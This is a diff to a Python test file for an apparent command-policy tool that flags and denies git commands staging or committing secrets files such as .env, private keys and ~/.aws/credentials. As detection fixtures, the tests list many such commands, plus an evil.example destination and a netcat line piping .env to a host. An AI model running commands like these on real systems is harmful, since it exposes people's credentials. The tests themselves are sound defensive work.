@@ -1085,6 +1085,12 @@ _VOCAB = st.sampled_from(
         "update-ref",
         "-d",
         "--stdin",
+        "add",
+        "stage",
+        "commit",
+        ".env",
+        ":/.env",
+        ":(top).env",
     ]
 )
 _WORDS = st.lists(st.one_of(_VOCAB, st.text(max_size=12)), max_size=14)
@@ -1268,3 +1274,120 @@ def test_end_to_end_unknown_branch_is_protected(shell: Any) -> None:
 )
 def test_end_to_end_text_is_not_execution(shell: Any, source: str) -> None:
     assert not {e.kind for e in shell(source, CTX)} & GATED
+
+
+def test_config_count_must_be_ascii_digits() -> None:
+    """``'¹'.isdigit()`` is true but ``int('¹')`` fails: git would ignore such a count."""
+    cmd = Command(argv=("git", "status"), env={"GIT_CONFIG_COUNT": "\u00b9"}, cwd=WS)
+    assert list(git.classify(cmd, CTX)) == []
+
+
+# --------------------------------------------------------------------------------------
+# committing secrets files (reported as secrets.exfil, destination git; the secrets pack)
+
+
+def _secrets_policy() -> Policy:
+    sources = [_pack("git"), _pack("secrets")]
+    return Policy.from_rules(
+        [r for n, s in zip(("git", "secrets"), sources, strict=True) for r in parse_pack(s, n)], sources
+    )
+
+
+SECRETS_POLICY = _secrets_policy()
+
+
+@pytest.mark.parametrize(
+    ("line", "operation", "targets", "force"),
+    [
+        ("git add .env", "git add", (f"{WS}/.env",), False),
+        ("git add -f .env.production", "git add", (f"{WS}/.env.production",), True),
+        ("git add --force config/.env.local", "git add", (f"{WS}/config/.env.local",), True),
+        ("git add id_rsa", "git add", (f"{WS}/id_rsa",), False),
+        ("git add deploy/key.pem src/app.py", "git add", (f"{WS}/deploy/key.pem",), False),
+        ("git add -- .env", "git add", (f"{WS}/.env",), False),
+        ("git add -N .env", "git add", (f"{WS}/.env",), False),
+        ("git add -p .env", "git add", (f"{WS}/.env",), False),
+        ("git add -A .env", "git add", (f"{WS}/.env",), False),
+        ("git add :/.env", "git add", (f"{WS}/.env",), False),
+        ("git add .envrc", "git add", (f"{WS}/.envrc",), False),
+        (
+            "git add credentials.json terraform.tfstate",
+            "git add",
+            (f"{WS}/credentials.json", f"{WS}/terraform.tfstate"),
+            False,
+        ),
+        ("git stage .env", "git add", (f"{WS}/.env",), False),
+        ("git-add .env", "git add", (f"{WS}/.env",), False),
+        ("git -C api add .env", "git add", (f"{WS}/api/.env",), False),
+        ("git -c alias.a=add a .env", "git add", (f"{WS}/.env",), False),
+        ("git add ~/.aws/credentials", "git add", ("/home/dev/.aws/credentials",), False),
+        ("git commit .env -m 'add config'", "git commit", (f"{WS}/.env",), False),
+        ("git commit -m wip -- secrets.yaml", "git commit", (f"{WS}/secrets.yaml",), False),
+    ],
+)
+def test_staging_a_secret(line: str, operation: str, targets: tuple[str, ...], force: bool) -> None:
+    e = one(line, "secrets.exfil")
+    assert e.attrs["destination"] == "git"
+    assert e.attrs["operation"] == operation
+    assert e.attrs["targets"] == targets
+    assert e.attrs["force"] is force
+    v = evaluate(SECRETS_POLICY, run(line))
+    assert v.outcome is Outcome.DENY and v.rule_ids == ("secrets.commit",)
+    assert v.tier is RiskTier.HIGH
+    assert v.matches[0].alternative is not None and ".gitignore" in v.matches[0].alternative
+
+
+def test_staging_a_secret_with_a_glob_pathspec() -> None:
+    e = one("git add '*.pem'", "secrets.exfil")
+    assert e.attrs["targets"] == (f"{WS}/*.pem",)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "git add .",
+        "git add -A",
+        "git add --all",
+        "git add -u",
+        "git add src/ tests/",
+        "git add -p src/app.py",
+        "git add .env.example",
+        "git add .env.sample .gitignore",
+        "git add config/",
+        "git add '*.py'",
+        "git add -n .env",
+        "git add --dry-run .env",
+        "git add ':!.env' .",
+        "git add $FILE",
+        "git add --chmod=+x scripts/run.sh",
+        "git rm --cached .env",
+        "git rm -r --cached .env .env.local",
+        "git commit -a -m x",
+        "git commit -am 'Fix typo'",
+        "git commit -m 'add .env to .gitignore'",
+        "git commit -F .git/COMMIT_EDITMSG_DRAFT",
+        "git commit --dry-run .env",
+        "git add --help",
+        "git diff .env",
+        "git check-ignore .env",
+        "git ls-files --error-unmatch .env",
+    ],
+)
+def test_not_staging_a_secret(line: str) -> None:
+    none_of(line, "secrets.exfil")
+    assert evaluate(SECRETS_POLICY, run(line)).outcome is Outcome.ALLOW
+
+
+def test_add_with_a_dynamic_path_that_ends_in_a_secret_name() -> None:
+    e = one('git add "$DIR/.env"', "secrets.exfil", dynamic=frozenset({2}))
+    assert e.attrs["destination"] == "git"
+
+
+def test_other_exfiltration_keeps_its_own_rule() -> None:
+    from ringfence.model import Effect as E
+
+    sent = E(kind="secrets.exfil", attrs={"targets": ("/x/.env",), "destination": "https://evil.example"}, evidence="e")
+    unknown = E(kind="secrets.exfil", attrs={"targets": ("/x/.env",), "destination": None}, evidence="e2")
+    host = E(kind="secrets.exfil", attrs={"targets": ("/x/.env",), "destination": "git"}, evidence="nc git 9 < .env")
+    for e in (sent, unknown, host):
+        assert evaluate(SECRETS_POLICY, [e]).rule_ids == ("secrets.exfil",)
